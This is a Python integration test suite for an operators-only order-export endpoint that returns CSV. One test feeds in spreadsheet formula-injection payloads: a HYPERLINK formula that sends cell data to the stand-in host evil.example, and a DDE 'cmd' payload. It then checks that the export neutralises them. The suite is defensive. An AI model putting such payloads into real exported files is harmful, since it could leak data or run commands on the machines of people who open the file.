"""GET /v1/orders/export: operators only, one CSV row per order line, filtered by status and
creation time, read in keyset pages (one LIMITed query each) and safe to open in a
spreadsheet (docs/orders.md "Export")."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import event
from sqlalchemy.ext.asyncio import AsyncEngine

from adapters.order_export import OrderExport
from adapters.settings import Settings
from adapters.tables import orders
from tests.integration.apps import app_client
from tests.integration.helpers import (
    customer,
    insert_customer,
    operator,
    order_body,
    wait_for_status,
)

pytestmark = pytest.mark.integration

ADDRESS = {
    "name": "Grace Hopper",
    "line1": "1 Navy Yard",
    "line2": None,
    "city": "Arlington",
    "postal_code": "22202",
    "country": "US",
}


def line(sku: str, quantity: int, unit_price: int, **more: Any) -> dict[str, Any]:
    return {
        "sku": sku,
        "name": f"{sku} name",
        "quantity": quantity,
        "unit_price": unit_price,
        "total": quantity * unit_price,
        **more,
    }


@dataclass
class ReadModel:
    """Orders written straight into the read model, for one customer of their own."""

    engine: AsyncEngine
    customer_id: str = field(default_factory=lambda: f"usr_export_{uuid.uuid4().hex[:12]}")

    async def customer(self) -> None:
        async with self.engine.begin() as conn:
            await insert_customer(
                conn, self.customer_id, email=f"{self.customer_id}@example.com", name="Export"
            )

    async def order(
        self,
        created_at: str,
        *,
        status: str = "confirmed",
        lines: list[dict[str, Any]] | None = None,
        address: dict[str, str | None] | None = None,
        order_id: str | None = None,
    ) -> str:
        order_id = order_id or f"ord_export_{uuid.uuid4().hex[:16]}"
        lines = lines if lines is not None else [line("MUG-LOGO", 1, 1200)]
        total = sum(item["total"] for item in lines)
        async with self.engine.begin() as conn:
            await conn.execute(
                orders.insert().values(
                    id=order_id,
                    customer_id=self.customer_id,
                    status=status,
                    currency="EUR",
                    total=total,
                    lines=lines,
                    shipping_address=address or ADDRESS,
                    payment_status="authorized",
                    authorized=total,
                    created_at=datetime.fromisoformat(created_at),
                    updated_at=datetime.fromisoformat(created_at),
                )
            )
        return order_id


@pytest.fixture
async def read_model(engine: AsyncEngine) -> ReadModel:
    model = ReadModel(engine)
    await model.customer()
    return model


HEADER = [
    "order_id",
    "created_at",
    "updated_at",
    "status",
    "customer_id",
    "currency",
    "order_total",
    "payment_status",
    "authorized",
    "captured",
    "refunded",
    "sku",
    "name",
    "quantity",
    "unit_price",
    "line_total",
    "shipped",
    "returned",
    "ship_to_name",
    "ship_to_city",
    "ship_to_postal_code",
    "ship_to_country",
]
"""The columns docs/orders.md "Export" lists, in order."""


def table(answer: httpx.Response) -> list[dict[str, str]]:
    """The CSV answer's rows by column name, after checking its header row."""
    assert answer.status_code == 200, answer.text
    reader = csv.reader(io.StringIO(answer.text, newline=""))
    assert next(reader) == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in reader]


def instant(text: str) -> datetime:
    """The export writes every microsecond digit; JSON answers leave out a zero fraction."""
    return datetime.fromisoformat(text)


async def exported(api: httpx.AsyncClient, headers: dict[str, str], query: str) -> list[str]:
    """The order id of each row, in the export's order."""
    return [
        row["order_id"]
        for row in table(await api.get(f"/v1/orders/export?{query}", headers=headers))
    ]


@dataclass
class Statements:
    """Every SQL statement the app's engine sends while recording."""

    sent: list[str] = field(default_factory=list)


@asynccontextmanager
async def export_app(
    settings: Settings, *, page_size: int
) -> AsyncIterator[tuple[httpx.AsyncClient, Statements]]:
    """An app whose export reads `page_size` orders per query, with its statements
    recorded."""
    apps: list[FastAPI] = []
    statements = Statements()
    async with app_client(settings, extend=apps.append) as http:
        app = apps[0]
        app.state.services.order_export = OrderExport(app.state.engine, page_size=page_size)

        def record(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
            statements.sent.append(statement)

        event.listen(app.state.engine.sync_engine, "before_cursor_execute", record)
        yield http, statements


async def test_an_order_placed_through_the_api_is_one_row_per_line(
    api: httpx.AsyncClient,
) -> None:
    owner = await customer(api)
    placed = await api.post(
        "/v1/orders", json=order_body({"TSHIRT-BLUE-M": 2, "MUG-LOGO": 1}), headers=owner
    )
    assert placed.status_code == 201, placed.text
    order = await wait_for_status(api, owner, placed.json()["id"], "confirmed")
    op = await operator(api)

    answer = await api.get(
        "/v1/orders/export", params={"created_from": order["created_at"]}, headers=op
    )

    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="orders-')
    assert disposition.endswith('Z.csv"')
    rows = [
        row | {"created_at": instant(row["created_at"]), "updated_at": instant(row["updated_at"])}
        for row in table(answer)
        if row["order_id"] == order["id"]
    ]
    address = order["shipping_address"]
    assert rows == [
        {
            "order_id": order["id"],
            "created_at": instant(order["created_at"]),
            "updated_at": instant(order["updated_at"]),
            "status": "confirmed",
            "customer_id": order["customer_id"],
            "currency": "EUR",
            "order_total": str(order["total"]["amount"]),
            "payment_status": order["payment"]["status"],
            "authorized": str(order["payment"]["authorized"]["amount"]),
            "captured": "0",
            "refunded": "0",
            "sku": item["sku"],
            "name": item["name"],
            "quantity": str(item["quantity"]),
            "unit_price": str(item["unit_price"]["amount"]),
            "line_total": str(item["total"]["amount"]),
            "shipped": "0",
            "returned": "0",
            "ship_to_name": address["name"],
            "ship_to_city": address["city"],
            "ship_to_postal_code": address["postal_code"],
            "ship_to_country": address["country"],
        }
        for item in order["lines"]
    ]
    assert [row["sku"] for row in rows] == ["TSHIRT-BLUE-M", "MUG-LOGO"]
    assert order["total"]["amount"] == 2 * 2500 + 1200


async def test_rows_carry_the_read_models_values_in_minor_units(
    api: httpx.AsyncClient, read_model: ReadModel
) -> None:
    order_id = await read_model.order(
        "2001-01-10T08:30:00.250000+00:00",
        status="partially_shipped",
        lines=[line("TSHIRT-BLUE-L", 3, 2500, shipped=2, returned=1), line("STICKER-PACK", 1, 400)],
    )

    rows = table(
        await api.get(
            "/v1/orders/export?created_from=2001-01-10&created_to=2001-01-10",
            headers=await operator(api),
        )
    )

    assert [(r["order_id"], r["sku"]) for r in rows] == [
        (order_id, "TSHIRT-BLUE-L"),
        (order_id, "STICKER-PACK"),
    ]
    first, second = rows
    assert first["created_at"] == "2001-01-10T08:30:00.250000Z"
    assert first["status"] == second["status"] == "partially_shipped"
    assert first["order_total"] == second["order_total"] == "7900"
    assert (first["quantity"], first["unit_price"], first["line_total"]) == ("3", "2500", "7500")
    assert (first["shipped"], first["returned"]) == ("2", "1")
    assert (second["shipped"], second["returned"]) == ("0", "0")
    assert first["customer_id"] == read_model.customer_id
    assert (first["ship_to_name"], first["ship_to_country"]) == ("Grace Hopper", "US")


async def test_filters_by_status_and_inclusive_creation_bounds(
    api: httpx.AsyncClient, read_model: ReadModel
) -> None:
    a = await read_model.order("2001-03-01T10:00:00+00:00", status="confirmed")
    b = await read_model.order("2001-03-01T23:59:59.999999+00:00", status="shipped")
    c = await read_model.order("2001-03-02T00:00:00+00:00", status="cancelled")
    d = await read_model.order("2001-03-05T12:00:00+00:00", status="shipped")
    op = await operator(api)
    march = "created_from=2001-03-01&created_to=2001-03-31"

    # oldest first; a date is its whole day (UTC), at either end
    assert await exported(api, op, march) == [a, b, c, d]
    assert await exported(api, op, "created_from=2001-03-01&created_to=2001-03-01") == [a, b]
    assert await exported(api, op, "created_from=2001-03-02&created_to=2001-03-04") == [c]
    # date-times are inclusive at both ends; an offset is converted, none is UTC
    both_ends = "created_from=2001-03-01T10:00:00Z&created_to=2001-03-02T00:00:00"
    assert await exported(api, op, both_ends) == [a, b, c]
    offset = {"created_from": "2001-03-01T11:00:01+01:00", "created_to": "2001-03-01T23:59:59Z"}
    answer = await api.get("/v1/orders/export", params=offset, headers=op)
    assert [row["order_id"] for row in table(answer)] == []
    offset["created_from"] = "2001-03-01T11:00:00+01:00"
    answer = await api.get("/v1/orders/export", params=offset, headers=op)
    assert [row["order_id"] for row in table(answer)] == [a]
    # statuses: one, a comma list, repeated
    assert await exported(api, op, f"{march}&status=shipped") == [b, d]
    assert await exported(api, op, f"{march}&status=shipped,cancelled") == [b, c, d]
    assert await exported(api, op, f"{march}&status=shipped&status=confirmed") == [a, b, d]
    assert await exported(api, op, f"{march}&format=csv") == [a, b, c, d]
    assert await exported(api, op, f"{march}&status=refunded") == []


async def test_an_empty_export_is_the_header_alone(api: httpx.AsyncClient) -> None:
    answer = await api.get("/v1/orders/export?created_to=1970-01-01", headers=await operator(api))

    assert table(answer) == []


async def test_pages_follow_each_other_with_one_limited_query_each(
    settings: Settings, read_model: ReadModel
) -> None:
    """Seven orders, four sharing one creation time across a page boundary, read three per
    page: every order once, in order, in three statements that all have a LIMIT."""
    same = "2002-06-01T12:00:00+00:00"
    first = await read_model.order("2002-06-01T11:00:00+00:00")
    tied = [
        await read_model.order(same, order_id=f"ord_export_tie_{n}_{uuid.uuid4().hex[:8]}")
        for n in range(4)
    ]
    later = [await read_model.order(f"2002-06-0{day}T00:00:00+00:00") for day in (2, 3)]
    expected = [first, *sorted(tied, reverse=True), *later]

    async with export_app(settings, page_size=3) as (http, statements):
        op = await operator(http)
        statements.sent.clear()
        ids = await exported(http, op, "created_from=2002-06-01&created_to=2002-06-30")
        sent = list(statements.sent)
        statements.sent.clear()
        six = await exported(http, op, "created_from=2002-06-01&created_to=2002-06-02")
        sent_for_six = list(statements.sent)

    assert ids == expected
    assert len(sent) == 3, sent  # pages of 3, 3 and 1: the short page is the last
    assert all("LIMIT" in statement for statement in sent), sent
    assert six == expected[:6]
    assert len(sent_for_six) == 3, sent_for_six  # 3, 3, then an empty page ends it
    assert all("LIMIT" in statement for statement in sent_for_six), sent_for_six


async def test_text_a_spreadsheet_would_run_gets_a_leading_quote(
    api: httpx.AsyncClient, read_model: ReadModel
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    hostile: dict[str, str | None] = {
        "name": formula,
        "line1": "1 Main St",
        "line2": None,
        "city": "+1+1",
        "postal_code": "-2+3",
        "country": "@SUM(A1)",
    }
    order_id = await read_model.order(
        "2003-02-01T00:00:00+00:00",
        lines=[
            line("TAB-SKU", 1, 100) | {"name": "\tcmd|' /C calc'!A0"},
            line("CR-SKU", 1, 100) | {"name": "\r=1+1"},
            line("PLAIN", 2, 100) | {"name": 'Mug, "large"\nsecond line = fine'},
        ],
        address=hostile,
    )

    rows = table(
        await api.get(
            "/v1/orders/export?created_from=2003-02-01&created_to=2003-02-01",
            headers=await operator(api),
        )
    )

    assert {row["order_id"] for row in rows} == {order_id}
    assert [row["name"] for row in rows] == [
        "'\tcmd|' /C calc'!A0",
        "'\r=1+1",
        'Mug, "large"\nsecond line = fine',
    ]
    first = rows[0]
    assert first["ship_to_name"] == "'" + formula
    assert first["ship_to_city"] == "'+1+1"
    assert first["ship_to_postal_code"] == "'-2+3"
    assert first["ship_to_country"] == "'@SUM(A1)"
    assert rows[2]["quantity"] == "2"  # numbers are ours and never quoted


@pytest.mark.parametrize(
    "query",
    [
        "format=xlsx",
        "status=lost",
        "status=shipped,lost",
        "status=",
        "status=shipped,",
        "created_from=",
        "created_to=&created_from=2001-03-01",
        "created_from=2001-13-01",
        "created_from=1700000000",
        "created_to=yesterday",
        "created_from=2001-03-02&created_to=2001-03-01",
        "created_from=2001-03-01T10:00:00Z&created_to=2001-03-01T09:59:59Z",
        "created_from=%00",
        "status=%00",
    ],
)
async def test_bad_parameters_are_refused_before_any_query(settings: Settings, query: str) -> None:
    async with export_app(settings, page_size=3) as (http, statements):
        op = await operator(http)
        statements.sent.clear()
        answer = await http.get(f"/v1/orders/export?{query}", headers=op)
        assert statements.sent == []

    assert answer.status_code == 422, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.json()["type"] == "/problems/validation-error"
    assert "content-disposition" not in answer.headers


async def test_only_operators_export(settings: Settings) -> None:
    async with export_app(settings, page_size=3) as (http, statements):
        owner = await customer(http)
        statements.sent.clear()
        anonymous = await http.get("/v1/orders/export")
        customers = await http.get("/v1/orders/export", headers=owner)
        forged = await http.get(
            "/v1/orders/export", headers={"Authorization": "Bearer not-a-token"}
        )
        assert statements.sent == []

    assert anonymous.status_code == 401
    assert anonymous.headers["www-authenticate"].startswith("Bearer")
    assert forged.status_code == 401
    assert customers.status_code == 403
    assert customers.json()["type"] == "/problems/forbidden"
    for answer in (anonymous, customers, forged):
        assert answer.headers["content-type"] == "application/problem+json"
        assert "order_id" not in answer.text


async def test_a_database_that_does_not_answer_is_a_503_not_a_cut_short_csv(
    settings: Settings, api: httpx.AsyncClient
) -> None:
    op = await operator(api)
    dead = "postgresql+asyncpg://postgres@127.0.0.1:9/nothing"  # the discard port: refused
    async with app_client(settings, database_url=dead) as http:
        answer = await http.get("/v1/orders/export", headers=op)

    assert answer.status_code == 503, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.headers["Retry-After"] == "5"
